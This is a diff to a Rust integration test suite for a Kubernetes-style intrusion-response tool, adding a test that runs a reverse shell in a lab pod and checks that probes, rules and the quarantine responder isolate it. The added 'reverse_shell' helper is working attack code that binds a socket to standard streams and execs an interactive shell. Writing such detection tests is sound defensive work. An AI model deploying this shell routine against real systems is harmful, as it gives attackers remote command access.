@@ -59,6 +59,8 @@ fn role_helper() {
     match role.as_str() {
         "echo-server" => echo_server(arg(0).parse().expect("port")),
         "client" => client(arg(0).parse().expect("addr")),
+        "sink-server" => sink_server(arg(0).parse().expect("port")),
+        "reverse-shell" => reverse_shell(arg(0).parse().expect("addr")),
         "daemon" => daemon_child(Path::new(&arg(0)), Path::new(&arg(1)), Path::new(&arg(2)), &arg(3)),
         other => panic!("unknown role {other}"),
     }
@@ -90,6 +92,32 @@ fn echo_server(port: u16) {
             }
         });
     }
+}
+
+/// Accepts connections and discards what they send (the attacker's end of a reverse shell).
+fn sink_server(port: u16) {
+    let listener = TcpListener::bind(("0.0.0.0", port)).expect("bind");
+    say("listening");
+    for stream in listener.incoming().flatten() {
+        std::thread::spawn(move || {
+            let mut stream = stream;
+            let _ = std::io::copy(&mut stream, &mut std::io::sink());
+        });
+    }
+}
+
+/// The classic reverse shell: connect out, put the socket on fds 0-2, exec an interactive shell.
+fn reverse_shell(addr: SocketAddr) {
+    use std::os::fd::AsRawFd as _;
+    use std::os::unix::process::CommandExt as _;
+    let stream = TcpStream::connect_timeout(&addr, Duration::from_secs(2)).expect("connect to the attacker");
+    let fd = stream.as_raw_fd();
+    for target in 0..3 {
+        // SAFETY: both descriptors are valid; replacing the standard streams is the point.
+        unsafe { libc::dup2(fd, target) };
+    }
+    let err = Command::new("/bin/sh").arg("-i").exec();
+    panic!("exec /bin/sh: {err}");
 }
 
 /// Holds one connection open; each stdin line is sent and must come back within a second.
@@ -445,5 +473,89 @@ fn quarantine_guardrails_protect_namespaces_and_limit_the_rate() {
     assert!(service.resume("operator").is_some());
     assert_eq!(service.respond(&verdict("shop", "b", "reverse_shell", "alert-g-4")).outcome, Outcome::Quarantined);
     assert_reach(&probe(&lab), |from, to| involves("shop/a")(from, to) && involves("shop/b")(from, to));
+    let _ = std::fs::remove_dir_all(&state_dir);
+}
+
+/// (a) through the real pipeline: a reverse shell in pod a is seen by the probes (dup and exec
+/// events), judged by the default rule pack (`reverse_shell`, action quarantine), and the
+/// responder isolates the pod: the open connection to b stops passing data, new connections
+/// both ways fail, the other pods keep their connectivity.
+#[test]
+fn quarantine_reverse_shell_through_probes_and_rules() {
+    use palisade::events::decode::decode;
+    use palisade::events::enrich::{EndpointIndex, PodRef, ProcCache, enrich};
+    use palisade::events::input::{Clock, to_input};
+    use palisade::events::kind::EventKind;
+    use palisade::probes::loader::{self, LoadOptions};
+    use palisade::rules::RulePack;
+    use std::os::fd::AsRawFd as _;
+
+    if !require_kernel("quarantine_reverse_shell_through_probes_and_rules") {
+        return;
+    }
+    let lab = TestLab::up("qrevsh", PODS);
+    let pins = Pins::new(&lab.name);
+    let state_dir = temp_state_dir(&lab.name);
+    let (_dp, service) = enforce(&lab, &pins, &state_dir, ResponsePolicy::default());
+
+    let rules_dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
+    let pack = RulePack::load(&rules_dir).unwrap_or_else(|e| panic!("rules: {}", e.lines().join("\n")));
+    let a_id = palisade::lab::cgroup_id(&lab.pod_cgroup_dir("shop/a").expect("dir")).expect("id");
+    let options = LoadOptions::default();
+    let mut probes = loader::load(&options).expect("load probes");
+    probes.attach_all(&options).expect("attach probes");
+    let mut ring = probes.take_ring_buffer().expect("ring");
+    let mut kinds: Vec<EventKind> = pack.subscribed_types().into_iter().filter_map(|t| EventKind::from_name(t.as_str())).collect();
+    kinds.extend([EventKind::Exec, EventKind::Exit]);
+    loader::set_enabled_kinds(&mut probes.ebpf, &kinds).expect("kinds");
+    loader::monitor_cgroup(&mut probes.ebpf, a_id, 0).expect("monitor");
+
+    let echo = Role::in_pod(&lab, "shop/b", "echo-server", &ECHO_PORT.to_string());
+    assert_eq!(echo.next(Duration::from_secs(10)), "listening");
+    let attacker = Role::in_pod(&lab, "shop/b", "sink-server", "7071");
+    assert_eq!(attacker.next(Duration::from_secs(10)), "listening");
+    let mut client = Role::in_pod(&lab, "shop/a", "client", &format!("198.18.7.2:{ECHO_PORT}"));
+    assert_eq!(client.next(Duration::from_secs(10)), "connected");
+    assert_eq!(client.send("before"), "ok");
+
+    let _shell = Role::in_pod(&lab, "shop/a", "reverse-shell", "198.18.7.2:7071");
+
+    // The daemon's pipeline, inline: ring buffer -> decode -> enrich -> input -> rules -> responder.
+    let mut endpoints = EndpointIndex::default();
+    endpoints.insert(a_id, PodRef { namespace: "shop".into(), name: "a".into(), labels: Default::default(), service_account: None });
+    let mut cache = ProcCache::new(256);
+    let clock = Clock::new();
+    let deadline = Instant::now() + Duration::from_secs(20);
+    let mut seen = Vec::new();
+    let decision = 'pipeline: loop {
+        assert!(Instant::now() < deadline, "no quarantine verdict; rule hits seen: {seen:?}");
+        let mut pfd = libc::pollfd { fd: ring.as_raw_fd(), events: libc::POLLIN, revents: 0 };
+        // SAFETY: one valid pollfd.
+        unsafe { libc::poll(&mut pfd, 1, 200) };
+        while let Some(item) = ring.next() {
+            let Ok(event) = decode(&item) else { continue };
+            drop(item);
+            let enriched = enrich(event, &endpoints, &mut cache);
+            let input = to_input(&enriched, &clock, "test-node");
+            for hit in pack.evaluate(&input).expect("evaluate") {
+                seen.push(hit.rule_id.clone());
+                if hit.action == Action::Quarantine && hit.rule_id == "reverse_shell" {
+                    break 'pipeline service.respond(&Verdict {
+                        hit,
+                        namespace: "shop".into(),
+                        name: "a".into(),
+                        alert_id: "alert-revsh-1".into(),
+                    });
+                }
+            }
+        }
+    };
+    assert_eq!(decision.outcome, Outcome::Quarantined, "{decision:?}");
+
+    let reply = client.send("after");
+    assert!(reply.starts_with("err"), "the open connection still passes data: {reply}");
+    assert_reach(&probe(&lab), involves("shop/a"));
+    assert_eq!(service.list().iter().map(|r| r.rule_id.as_str()).collect::<Vec<_>>(), ["reverse_shell"]);
+    service.release("shop/a", "test over", "test").expect("release");
     let _ = std::fs::remove_dir_all(&state_dir);
 }
